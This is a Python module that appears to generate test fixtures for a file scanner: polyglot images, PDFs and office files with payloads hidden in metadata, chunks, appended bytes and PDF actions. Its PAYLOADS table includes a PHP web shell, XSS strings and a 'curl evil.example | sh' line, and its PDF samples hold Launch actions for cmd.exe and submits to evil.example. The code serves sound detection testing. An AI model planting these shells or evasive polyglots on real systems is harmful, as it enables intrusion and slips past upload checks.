"""Files that are two things at once: a picture or document to us, a page, program or archive to somebody else.

`polyglots()` yields hundreds of them, each with the bytes that make it dangerous. Everything is made here, in code.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from typing import Any, NamedTuple

import pikepdf
import pillow_heif
from PIL import Image
from storage_samples import box, chunk, docx, ole, segment, xlsx

pillow_heif.register_heif_opener()


class Polyglot(NamedTuple):
    """`carrier` and `place` say where in what the payload is hidden, `payload` what it is."""

    carrier: str
    place: str
    payload: str
    content: bytes
    hidden: bytes

    @property
    def extension(self) -> str:
        return self.carrier

    @property
    def name(self) -> str:
        return f"{self.carrier}-{self.place}-{self.payload}"


def _zip(name: str, text: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo(name), text)
    return buffer.getvalue()


def _program() -> bytes:
    """A Windows program as far as its two headers."""
    return b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\x64\x86" + b"\0" * 40


def _raw_pdf(action: bytes) -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction " + action + b">>\nendobj\n"
        b"2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n"
        b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n"
        b"trailer\n<</Root 1 0 R/Size 4>>\nstartxref\n0\n%%EOF\n"
    )


PAYLOADS: dict[str, bytes] = {
    "html": b"<html><body><script>alert(document.domain)</script></body></html>",
    "doctype": b"<!DOCTYPE html><title>x</title><img src=x onerror=alert(1)>",
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'></svg>",
    "script": b"<script src=//evil.example/x.js></script>",
    "iframe": b"<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "php": b"<?php system($_GET['c']); __halt_compiler();",
    "php-short": b"<?=`$_GET[0]`?>",
    "asp": b'<%@ Page Language="C#" %><% Response.Write(1); %>',
    "shell": b"#!/bin/sh\ncurl evil.example | sh\n",
    "javascript": b"*/=1;alert(document.domain);/*",
    "zip": _zip("a.txt", b"hidden"),
    "jar": _zip("META-INF/MANIFEST.MF", b"Main-Class: A\n"),
    "rar": b"Rar!\x1a\x07\x01\x00" + b"\x33\x92\xb5\xe5\x0a\x01\x05\x06\x00\x05\x01\x01\x80\x80\x00",
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 24,
    "pdf": _raw_pdf(b"[3 0 R /Fit]"),
    "pdf-js": _raw_pdf(b"<</S/JavaScript/JS(app.alert(1))>>"),
    "elf": b"\x7fELF\x02\x01\x01" + b"\0" * 57,
    "exe": _program(),
}


@cache
def carrier(kind: str) -> bytes:
    """A small good picture of a format."""
    made = Image.new("RGB", (24, 16))
    made.putdata([(x * 10 % 256, y * 15 % 256, (x * y) % 256) for y in range(16) for x in range(24)])
    if kind == "gif":
        made = made.quantize(16)
    buffer = io.BytesIO()
    formats = {"jpg": "JPEG", "tif": "TIFF", "heic": "HEIF"}
    more = {"sizes": [(16, 16)]} if kind == "ico" else {"lossless": True} if kind == "webp" else {}
    made.save(buffer, formats.get(kind, kind.upper()), **more)
    return buffer.getvalue()


def real_files() -> dict[str, bytes]:
    """A small good file of every format, which decoders open."""
    found = {kind: carrier(kind) for kind in _PICTURES}
    found |= {"jpeg": found["jpg"], "tiff": found["tif"], "pdf": a_pdf(), "txt": b"a letter\n", "csv": b"a,b\n1,2\n"}
    return found | {"doc": ole(), "xls": ole("Workbook"), "docx": docx(), "xlsx": xlsx()}


def _saved(kind: str, **fields: object) -> bytes:
    buffer = io.BytesIO()
    formats = {"jpg": "JPEG", "tif": "TIFF", "heic": "HEIF"}
    with Image.open(io.BytesIO(carrier(kind))) as image:
        image.save(buffer, formats.get(kind, kind.upper()), **fields)
    return buffer.getvalue()


def _exif(payload: bytes) -> bytes:
    exif = Image.Exif()
    exif[0x010E] = payload.decode("latin-1")  # ImageDescription
    return exif.tobytes()


def _around(kind: str, payload: bytes) -> Iterator[tuple[str, bytes]]:
    """What every format has: something before, behind, and far behind it."""
    yield "appended", carrier(kind) + payload
    yield "appended-after-padding", carrier(kind) + b"\0" * 4096 + b"\r\n" + payload
    yield "prepended", payload + b"\n" + carrier(kind)


def _png(payload: bytes) -> Iterator[tuple[str, bytes]]:
    body, end = carrier("png")[:-12], carrier("png")[-12:]
    head, rest = body[:33], body[33:]
    for kind, data in (
        (b"tEXt", b"Comment\0" + payload),
        (b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + payload),
        (b"zTXt", b"Comment\0\0" + zlib.compress(payload)),
        (b"iCCP", b"icc\0\0" + zlib.compress(payload, 0)),
        (b"eXIf", b"II*\0\x08\0\0\0\0\0\0\0\0\0" + payload),
        (b"prVt", payload),
    ):
        yield f"chunk-{kind.decode()}", head + chunk(kind, data) + rest + end
    yield "chunk-behind-the-pixels", body + chunk(b"tEXt", b"Comment\0" + payload) + end
    yield "critical-chunk", head + chunk(b"EVIL", payload) + rest + end
    yield "damaged-chunk", head + chunk(b"tEXt", payload)[:-4] + b"\0\0\0\0" + rest + end
    width = 3 * 64
    rows = -(-len(payload) // width)
    pixels = b"".join(b"\0" + payload[n * width : (n + 1) * width].ljust(width, b"\0") for n in range(rows))
    yield (
        "pixels",
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 64, rows, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(pixels, 0))
        + end,
    )


def _jpg(payload: bytes) -> Iterator[tuple[str, bytes]]:
    start, rest = carrier("jpg")[:2], carrier("jpg")[2:]
    for place, marker, data in (
        ("comment", 0xFE, payload),
        ("exif", 0xE1, b"Exif\0\0" + _exif(payload)[6:]),
        ("xmp", 0xE1, b"http://ns.adobe.com/xap/1.0/\0" + payload),
        ("icc", 0xE2, b"ICC_PROFILE\0\x01\x01" + payload),
        ("photoshop", 0xED, b"Photoshop 3.0\08BIM" + payload),
        ("private", 0xEF, payload),
    ):
        yield place, start + segment(marker, data) + rest
    yield "between-segments", start + payload + rest
    yield "behind-the-scan", rest.join((start, b""))[:-2] + segment(0xFE, payload) + b"\xff\xd9"


def _gif(payload: bytes) -> Iterator[tuple[str, bytes]]:
    body = carrier("gif")
    table = 3 << ((body[10] & 7) + 1)
    head, rest = body[: 13 + table], body[13 + table :]
    blocks = b"".join(bytes([len(payload[n : n + 255])]) + payload[n : n + 255] for n in range(0, len(payload), 255))
    yield "comment", head + b"\x21\xfe" + blocks + b"\0" + rest
    yield "application", head + b"\x21\xff\x0bMAKERNOTE10" + blocks + b"\0" + rest
    large = bytes([body[10] | 0x87]) + body[11:13]
    colours = (body[13 : 13 + table] + payload)[:768].ljust(768, b"\0")
    yield "colours", body[:10] + large + colours + rest
    yield "no-block", head + payload + rest
    # The width and height spell the start of a comment: the whole file is a script to a lax reader.
    yield "header-comment", body[:6] + b"/*\x10\0" + body[10:] + payload


def _webp(payload: bytes) -> Iterator[tuple[str, bytes]]:
    def part(kind: bytes, data: bytes) -> bytes:
        return kind + struct.pack("<I", len(data)) + data + b"\0" * (len(data) & 1)

    image = carrier("webp")[12:]
    for kind, flag in ((b"EXIF", 8), (b"XMP ", 4), (b"ICCP", 32), (b"evil", 0)):
        extended = part(b"VP8X", struct.pack("<I", flag) + b"\x17\0\0\x0f\0\0")
        order = (part(kind, payload) + image) if kind == b"ICCP" else (image + part(kind, payload))
        body = b"WEBP" + extended + order
        yield f"chunk-{kind.decode().strip()}", b"RIFF" + struct.pack("<I", len(body)) + body
    yield "no-chunk", carrier("webp")[:12] + payload + image


def _tif(payload: bytes) -> Iterator[tuple[str, bytes]]:
    yield "description", _saved("tif", description=payload.decode("latin-1"))
    yield "icc", _saved("tif", icc_profile=payload)
    body = carrier("tif")
    (directory,) = struct.unpack_from("<I", body, 4)
    if directory == 8:  # everything moves behind the payload only where nothing is counted from the start
        yield "unnamed-gap", _saved("tif", software="x" * 8) + b"\0" * 16 + payload


def _ico(payload: bytes) -> Iterator[tuple[str, bytes]]:
    body = carrier("ico")
    offset = struct.unpack_from("<I", body, 18)[0] + len(payload)
    yield "gap", body[:18] + struct.pack("<I", offset) + payload + body[22:]
    image = body[22:-12] + chunk(b"tEXt", b"Comment\0" + payload) + body[-12:]
    yield "chunk", body[:14] + struct.pack("<II", len(image), 22) + image


def _heic(payload: bytes) -> Iterator[tuple[str, bytes]]:
    body = carrier("heic")
    yield "free-box", body + box(b"free", payload)
    yield "uuid-box", body + box(b"uuid", b"\x11" * 16 + payload)
    yield "exif", _saved("heic", exif=_exif(payload))
    (length,) = struct.unpack_from(">I", body)
    yield "box-first", body[:length] + box(b"skip", payload) + body[length:]


_PICTURES = {"png": _png, "jpg": _jpg, "gif": _gif, "webp": _webp, "tif": _tif, "ico": _ico, "heic": _heic}


Change = Callable[[pikepdf.Pdf], None]


def a_pdf(change: Change | None = None, **save: Any) -> bytes:
    """A PDF of one page, changed by `change(pdf)`."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(100, 100))
    if change is not None:
        change(pdf)
    buffer = io.BytesIO()
    pdf.save(buffer, **save)
    return buffer.getvalue()


Action = Callable[[], pikepdf.Dictionary]
"""Makes an action: an object of one PDF cannot be used in another."""


def _action(kind: str, **more: Any) -> Action:
    def made(value: Any) -> Any:
        return value() if callable(value) else [made(item) for item in value] if isinstance(value, list) else value

    return lambda: pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **{key: made(value) for key, value in more.items()})


def _opens(action: Action) -> Change:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(action())

    return change


def _page_action(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=_action("JavaScript", JS="app.alert(2)")())


def _link(action: Action) -> Change:
    def change(pdf: pikepdf.Pdf) -> None:
        annotation = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action(), Border=[0, 0, 0]
        )
        pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annotation]))

    return change


def _names_script(pdf: pikepdf.Pdf) -> None:
    script = _action("JavaScript", JS=pdf.make_stream(b"app.alert(3)"))()
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("a"), script]))


def _attachment(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["evil.exe"] = _program()


def _attached_to_page(pdf: pikepdf.Pdf) -> None:
    stream = pdf.make_stream(b"x", Type=pikepdf.Name.EmbeddedFile)
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="a.txt", EF=pikepdf.Dictionary(F=stream))
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)
    pdf.pages[0].obj.Annots = pikepdf.Array([note])


def _form(pdf: pikepdf.Pdf, **more: object) -> None:
    field = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T="a", Rect=[0, 0, 9, 9], **more
    )
    pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(field)])
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[pdf.pages[0].obj.Annots[0]])


def _field_script(pdf: pikepdf.Pdf) -> None:
    _form(pdf, AA=pikepdf.Dictionary(K=_action("JavaScript", JS="event.rc=true")()))


def _xfa(pdf: pikepdf.Pdf) -> None:
    _form(pdf)
    pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp:xdp xmlns:xdp='x'><script>1</script></xdp:xdp>")


def _rich_media(pdf: pikepdf.Pdf) -> None:
    media = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])
    pdf.pages[0].obj.Annots = pikepdf.Array([media])


def _unreferenced(pdf: pikepdf.Pdf) -> None:
    """An object that nothing points to: some readers look for it all the same."""
    pdf.Root.Kept = pikepdf.Array([pdf.make_indirect(_action("JavaScript", JS="app.alert(4)")())])


SCRIPT = _action("JavaScript", JS="app.alert(1)")
ACTIVE_PDFS: dict[str, tuple[Change, str]] = {
    "javascript": (_opens(SCRIPT), "javascript"),
    "javascript-in-names": (_names_script, "javascript"),
    "javascript-of-a-page": (_page_action, "javascript"),
    "javascript-of-a-link": (_link(SCRIPT), "javascript"),
    "javascript-of-a-field": (_field_script, "javascript"),
    "javascript-unreferenced": (_unreferenced, "javascript"),
    "javascript-that-follows": (
        _opens(_action("GoTo", D=[0, pikepdf.Name.Fit], Next=SCRIPT)),
        "javascript",
    ),
    "launch": (_opens(_action("Launch", F="cmd.exe")), "launch_action"),
    "launch-of-a-link": (_link(_action("Launch", F="calc.exe")), "launch_action"),
    "submit": (_link(_action("SubmitForm", F="http://evil.example/")), "submit_form"),
    "import": (_link(_action("ImportData", F="a.fdf")), "submit_form"),
    "opens-an-address": (_opens(_action("URI", URI="http://evil.example/")), "automatic_action"),
    "opens-another-file": (_opens(_action("GoToR", F=r"\\evil.example\a", D="x")), "automatic_action"),
    "opens-what-follows": (
        _opens(_action("Named", N=pikepdf.Name.NextPage, Next=[_action("URI", URI="http://evil.example/")])),
        "automatic_action",
    ),
    "attachment": (_attachment, "embedded_file"),
    "attachment-of-a-page": (_attached_to_page, "embedded_file"),
    "xfa": (_xfa, "xfa_form"),
    "rich-media": (_rich_media, "media"),
    "movie": (_link(_action("Movie", Operation=pikepdf.Name.Play)), "media"),
}
"""What makes a PDF active, and the finding that names it."""


def active_pdfs() -> Iterator[tuple[str, bytes, str]]:
    """Yield active PDFs in every way they can be written: (name, content, finding)."""
    streams = {
        "plain": {"object_stream_mode": pikepdf.ObjectStreamMode.disable},
        "packed": {"object_stream_mode": pikepdf.ObjectStreamMode.generate},
    }
    for name, (change, finding) in ACTIVE_PDFS.items():
        for way, save in streams.items():
            yield f"{name}-{way}", a_pdf(change, **save), finding
    script = a_pdf(_opens(SCRIPT), **streams["plain"])
    yield "javascript-escaped-name", script.replace(b"/JavaScript", b"/J#61vaScript"), "javascript"
    yield "javascript-saved-change", a_pdf(**streams["plain"]) + _saved_change(), "javascript"
    owner = pikepdf.Encryption(owner="secret", user="", R=6)
    yield "encrypted", a_pdf(encryption=owner), "encrypted"


def _saved_change() -> bytes:
    """A change saved behind the end of a document, which replaces its first object."""
    return (
        b"1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\nendobj\n"
        b"trailer\n<</Root 1 0 R/Size 9>>\nstartxref\n0\n%%EOF\n"
    )


def _documents(payload: bytes) -> Iterator[tuple[str, str, bytes]]:
    """PDF, Word and text as the first of the two formats."""
    pdf = a_pdf(object_stream_mode=pikepdf.ObjectStreamMode.disable)
    head, rest = pdf.split(b"\n", 1)
    yield "pdf", "prepended", payload + b"\n" + pdf
    yield "pdf", "appended", pdf + payload
    yield "pdf", "comment", head + b"\n%" + payload.replace(b"\n", b" ").replace(b"\r", b" ") + b"\n" + rest
    yield "pdf", "stream", a_pdf(lambda made: made.Root.__setitem__("/Kept", made.make_stream(payload)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in ("[Content_Types].xml", "_rels/.rels", "word/document.xml"):
            archive.writestr(zipfile.ZipInfo(name), "<a/>")
        archive.writestr(zipfile.ZipInfo("word/media/image1.png"), payload)
    letter = buffer.getvalue()
    yield "docx", "part", letter
    yield "docx", "prepended", payload + letter
    yield "docx", "appended", letter + payload
    yield "doc", "appended", ole() + payload
    yield "txt", "whole", payload
    yield "txt", "after-blank-lines", b"\n \n\t" + payload
    yield "csv", "cell", b"name,remark\nx," + payload + b"\n"


def polyglots() -> Iterator[Polyglot]:
    """Yield all of them."""
    for name, payload in PAYLOADS.items():
        for kind, places in _PICTURES.items():
            for place, content in (*_around(kind, payload), *places(payload)):
                yield Polyglot(kind, place, name, content, payload)
        for kind, place, content in _documents(payload):
            yield Polyglot(kind, place, name, content, payload)
    for name, content, _ in active_pdfs():
        yield Polyglot("pdf", "active", name, content, b"")
